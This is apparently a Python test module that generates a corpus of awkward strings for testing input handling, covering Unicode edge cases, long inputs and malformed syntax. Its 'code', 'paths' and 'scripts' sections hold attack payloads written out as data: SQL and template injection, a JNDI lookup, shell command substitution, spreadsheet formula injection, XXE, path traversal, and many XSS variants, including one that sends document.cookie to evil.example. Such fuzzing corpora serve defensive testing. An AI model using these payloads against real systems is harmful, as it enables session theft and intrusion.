"""Several hundred strings that programs stumble over, by what is nasty about them."""
# ruff: noqa: E501 - what is nasty stands as it is, several to a line

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_ACTS = ("alert(1)", "fetch('//evil.example/?'+document.cookie)")


def _controls() -> Iterator[str]:
    yield from (f"before{chr(code)}after" for code in (*range(1, 9), 11, 12, *range(14, 32), 127, *range(128, 160)))
    yield "nul\x00in the middle"
    yield "\x00"
    yield "\x1b[31mred terminal\x1b[0m"
    yield "bell\x07\x07\x07"
    yield "back\x08\x08\x08space"
    yield "line one\rline two\r\nline three\nline four\u2028line five\u2029line six\x85line seven"
    yield "\ufeffmark at the start"
    yield "no character \ufffe and \uffff and \ufdd0"
    yield "private \ue000 use \U000f0000"
    yield "tag letters \U000e0041\U000e0042\U000e007f hidden"
    yield "\t\ttabs\tin\t\tbetween\t"
    yield "    "
    yield "\u00a0\u2003\u3000\u1680 only spaces of other kinds"


def _directions() -> Iterator[str]:
    marks = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
    yield from (f"gpj.{mark}exe photo" for mark in marks)
    yield "\u202e" * 200 + "turned round"
    yield "\u2066" * 300 + "never closed"
    yield "مرحبا بالعالم، هذا اجتماع الحي"
    yield "שלום עולם, שיחה עם הרשות (2026)"
    yield "English مع عربي and עברית in 1 line: 12/05/2026"
    yield "الماء 45٪ – «اقتباس» [رابط](https://example.org/ع)"
    yield "اردو: پانی کا مسئلہ؛ فارسی: آب‌وهوا"
    yield "# عنوان\n\n- بند\n- [ ] مهمة"
    yield "\u200fsoft\u200f marks \u200eeverywhere\u200e"


def _invisible() -> Iterator[str]:
    for sign in ("\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\u034f", "\u180e", "\ufe0f", "\u115f", "\u3164"):
        yield f"in{sign}visible {sign}sign{sign}"
    yield "\u200b" * 500
    yield "a\u200b" * 300
    yield "сервер аdmin раypal"  # letters of two scripts that look the same
    yield "ｆｕｌｌｗｉｄｔｈ ＜ｓｃｒｉｐｔ＞"
    yield "𝕱𝖗𝖆𝖐𝖙𝖚𝖗 𝓢𝓬𝓻𝓲𝓹𝓽 𝟙𝟚𝟛 ⓒⓘⓡⓒⓛⓔ"
    yield "ﬁne ﬂour ﬀ ŉ ǆ ß ẞ İ ı ſ"
    yield "K Å Ω are not K Å Ω"


def _combining() -> Iterator[str]:
    yield "Z" + "\u0351\u036b\u0343\u0337\u0489" * 40 + "algo"
    yield "e\u0301" * 200
    yield "q\u0307\u0323 is not q\u0323\u0307"
    yield "\u0301\u0301\u0301 starts with marks"
    yield "o" + "\u0308" * 2000
    yield "नमस्ते दुनिया क्षत्रिय"
    yield "สวัสดีชาวโลก ที่นี่ไม่มีช่องว่าง"
    yield "မင်္ဂလာပါ ကမ္ဘာလောက"
    yield "தமிழ் வணக்கம்"
    yield "ខ្មែរ ភាសា"
    yield "ⵜⴰⵎⴰⵣⵉⵖⵜ ⵉⵎⴰⵣⵉⵖⵏ"
    yield "ትግርኛ አማርኛ ሰላም"
    yield "日本語の文章には空白がありません"
    yield "中文没有空格也要能找到水"
    yield "한국어 문장, 한글 자모 ㅎㅏㄴ"
    yield "ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ"
    yield "𠜎𠜱𠝹𠱓 beyond the first plane"
    yield "Ćwierć žluťoučký kůň pặn ẹ́ Ŵyđ ṣọ̀rọ̀"


def _emoji() -> Iterator[str]:
    yield "😀😃😄 faces"
    yield "👩🏽‍🔬👨‍👩‍👧‍👦🏳️‍🌈🏴󠁧󠁢󠁷󠁬󠁳󠁿 joined"
    yield "🇰🇪🇲🇽🇺🇾🇱🇧 flags 🇰"
    yield "1️⃣ #️⃣ *️⃣ ©️ ™️ ‼️"
    yield "👍🏻👍🏼👍🏽👍🏾👍🏿"
    yield "🫠🪿🩷🛜 newer ones"
    yield "\u200d\u200d👩\u200d"
    yield "💧" * 400


def _long() -> Iterator[str]:
    yield "w" * 5_000
    yield "Donaudampfschifffahrtsgesellschaftskapitän" * 30
    yield "word " * 2_000
    yield "https://example.org/" + "a" * 3_000 + "?q=" + "b" * 500
    yield "line\n" * 1_500
    yield "(" * 400 + "deep" + ")" * 400
    yield "> " * 300 + "quoted"
    yield "- " * 200 + "listed"
    yield "*" * 999
    yield "`" * 999
    yield "[" * 450
    yield "![" * 300
    yield "_a" * 800
    yield "| a " * 400 + "|\n" + "|---" * 400 + "|"
    yield "<b>" * 300 + "bold"
    yield "&" * 500
    yield "\\" * 501


def _numbers() -> Iterator[str]:
    yield from ("0", "-0", "1e309", "NaN", "Infinity", "-1", "0x1F", "1/0", "１２３", "٣٫١٤", "1,000.00", "½ ⅔ ³")
    yield from ("true", "False", "null", "None", "nil", "undefined", "NULL", "(null)", "void", "N/A", "yes", "no", "on")
    yield from ("2026-13-45", "0000-00-00", "1970-01-01T00:00:00Z", "31/02/2026", "9999-12-31", "12:60")


def _code() -> Iterator[str]:
    yield from (
        "'; DROP TABLE entry; --",
        '" OR ""="',
        "' UNION SELECT payload FROM revision --",
        "1; ATTACH DATABASE '/tmp/x' AS x",
        "Robert'); DELETE FROM record WHERE ('1'='1",
        "%' ESCAPE '\\",
        "?1 :name @p $x",
        "%s %d %n %x %.1000000f",
        "{0} {name} {0.__class__} {{}} {",
        "{__import__('os').system('ls')}",
        "${jndi:ldap://evil.example/a}",
        "#{7*7} {{7*7}} ${7*7} <%= 7*7 %>",
        "$(reboot) `reboot` | reboot ; reboot & reboot",
        '=HYPERLINK("http://evil.example","win")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3",
        r"\u0041 \x41 \101 \N{BULLET} \\ \/ \"",
        "$x^2_{\\frac{1}{2}}$ and $ alone",
        r"$\undefinedcommand{",
        "$$$",
        "_sub_ ^sup^ ~tilde~ \\n \\t",
        "---\ntitle: not mine\ndate: never\n---\nbody",
        "---\n: : :\n- [\n",
        "```\nnever closed",
        "%PDF-1.7 %%EOF",
        "From nobody Mon Sep 17 00:00:00 2001",
        "-----BEGIN PRIVATE KEY-----",
        "]]> <![CDATA[ <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e;",
        "<?xml version='1.0'?><?php echo 1 ?>",
        "<!-- never closed",
        "--> <!-- --!> <!--> -->",
        "&lt;b&gt; &amp;amp; &#x3C;i&#62; &nosuch; &#0; &#xD800; &#99999999;",
    )


def _queries() -> Iterator[str]:
    yield from (
        "AND OR NOT", "NEAR(water road, 2)", "title:water", "body : *", "wat*", "^water", "water + road",
        '"water', 'wa"ter', '""""', "(water", "water)", "{title body}: x", "-", "-water", "- - -", "C++", "a:b:c",
        "it's", "water-", "*", "tag:", "tag:\"", "by:", "before:never", "cycle:99999999999999999999", "strategy:%",
        "NOT", "OR", "AND", "water AND", "NEAR", "col:*",
    )  # fmt: skip


def _paths() -> Iterator[str]:
    yield from (
        "../../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "/dev/null", "C:\\CON\\AUX", "CON", "nul.md",
        "COM1.txt", "LPT9", "~root", "file:///etc/passwd", "\\\\server\\share", "a/b\\c:d*e?f\"g<h>i|j", ".", "..",
        "...", ".hidden", "name.", "name ", " name", "-rf", "--help", "a" * 300 + ".md", "%2e%2e%2f", "index.html",
        "é.md", "e\u0301.md", "$HOME/%USERPROFILE%", "aux.tar.gz", "🗂/📄", "tab\there", "new\nline",
    )  # fmt: skip


def _scripts() -> Iterator[str]:
    tags = (
        "<script>{act}</script>", "<ScRiPt\n>{act}</sCrIpT >", "<script/src=//evil.example/x.js>", "<script",
        "<img src=x onerror={act}>", "<img src=x onerror\n=\n'{act}'", "<img/src/onerror={act}>",
        "<svg onload={act}>", "<svg><script>{act}</script></svg>", "<svg><a xlink:href='javascript:{act}'>x</a></svg>",
        "<svg><animate onbegin={act} attributeName=x>", "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
        "<math><mtext><table><mglyph><style><img src onerror={act}>",
        "<iframe src='javascript:{act}'></iframe>", "<iframe srcdoc='&lt;script&gt;{act}&lt;/script&gt;'>",
        "<object data='javascript:{act}'>", "<embed src='//evil.example/x.swf'>", "<applet code=x>",
        "<body onload={act}>", "<frameset onload={act}>", "<base href='//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=javascript:{act}'>", "<link rel=stylesheet href='//evil.example/x'>",
        "<style>@import '//evil.example/x'; *{{background:url(javascript:{act})}}</style>",
        "<div style='background:url(javascript:{act})'>", "<div style=\"width:expression({act})\">",
        "<form action='javascript:{act}'><input type=submit autofocus onfocus={act}></form>",
        "<button formaction='javascript:{act}'>x</button>", "<details open ontoggle={act}>", "<video><source onerror={act}>",
        "<audio src onerror={act}>", "<marquee onstart={act}>", "<isindex action=javascript:{act}>",
        "<template><script>{act}</script></template>", "<noscript><p title='</noscript><img src=x onerror={act}>'>",
        "<textarea></textarea><script>{act}</script>", "<title></title><script>{act}</script>",
        "<xmp><script>{act}</script></xmp>", "<plaintext><script>{act}</script>", "<b onmouseover={act}>x</b>",
        "<a href='javascript:{act}'>x</a>", "<a href='jAvAsCrIpT&colon;{act}'>x</a>", "<a href=' javascript:{act}'>x</a>",
        "<a href='java\tscript:{act}'>x</a>", "<a href='java&#10;script:{act}'>x</a>", "<a href='\x01javascript:{act}'>x</a>",
        "<a href='vbscript:{act}'>x</a>", "<a href='data:text/html,<script>{act}</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href=x target=_blank ping=//evil.example>x</a>",
        "<input type=image src=//evil.example/x onerror={act}>", "<img src='//evil.example/p.gif'>",
        "<img srcset='//evil.example/p.gif 2x'>", "<img lowsrc=//evil.example/p>", "<img style='background:url(//evil.example)'>",
        "<p id=__proto__ name=cookie class='wiki footnote'>", "\"><script>{act}</script>", "'><img src=x onerror={act}>",
        "</title></style></textarea></script><script>{act}</script>", "--><script>{act}</script><!--",
        "<<script>{act}//<</script>", "<scr<script>ipt>{act}</scr</script>ipt>", "<\x00script>{act}</script>",
        "\\\"-{act}//", "{act}", "<a/onclick={act}>x", "<x onclick={act}>x</x>", "<%00script>{act}",
    )  # fmt: skip
    yield from (tag.format(act=act) for tag, act in product(tags, _ACTS))


def _markdown_scripts() -> Iterator[str]:
    addresses = (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&#58;alert(1)", "java%0ascript:alert(1)",
        "  javascript:alert(1)", "\x01javascript:alert(1)", "javascript://evil.example/%0aalert(1)", "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,<svg onload=alert(1)>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x",
        "http://evil.example/?leak", "blob:x", "about:blank", "intent://x", "entry:../x", "task:999999999999999999", "task:-1",
    )  # fmt: skip
    for address in addresses:
        yield f"[click]({address})"
        yield f"![picture]({address})"
        yield f"[ref][r]\n\n[r]: {address}"
    yield from (f"<{address}>" for address in addresses)
    yield '[x](<javascript:alert(1)> "t")'
    yield "[a](x \"t' onmouseover=alert(1) '\")"
    yield '![a" onerror="alert(1)](x.png)'
    yield "[[javascript:alert(1)]] ![[javascript:alert(1)]] [[<script>|x]]"
    yield "[^1]: <script>alert(1)</script>\n\nfoot[^1]"
    yield "*[HTML]: <script>alert(1)</script>\n\nHTML"
    yield "Term\n:   <script>alert(1)</script>"
    yield "# Head <script>alert(1)</script> {#id onclick=alert(1)}"
    yield "para {: onclick=alert(1) }"
    yield "``` <script>alert(1)</script>\ncode\n```"
    yield "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |"
    yield "- [ ] <script>alert(1)</script>\n- [x] [a](javascript:alert(1))"
    yield "@<script>alert(1)</script> #<script>"
    yield "STX \x02klzzwxh:0001\x03 as the converter's own marks, wzxhzdk:0"


CORPUS: dict[str, tuple[str, ...]] = {
    "control characters": tuple(_controls()),
    "directions": tuple(_directions()),
    "invisible": tuple(_invisible()),
    "combining and scripts": tuple(_combining()),
    "emoji": tuple(_emoji()),
    "long and deep": tuple(_long()),
    "numbers and nothings": tuple(_numbers()),
    "code": tuple(_code()),
    "queries": tuple(_queries()),
    "paths": tuple(_paths()),
    "scripts": tuple(_scripts()),
    "scripts in Markdown": tuple(_markdown_scripts()),
}
"""Every nasty string, by what is nasty about it."""


def every() -> list[str]:
    """Return all of them, each once."""
    return list(dict.fromkeys(text for texts in CORPUS.values() for text in texts))
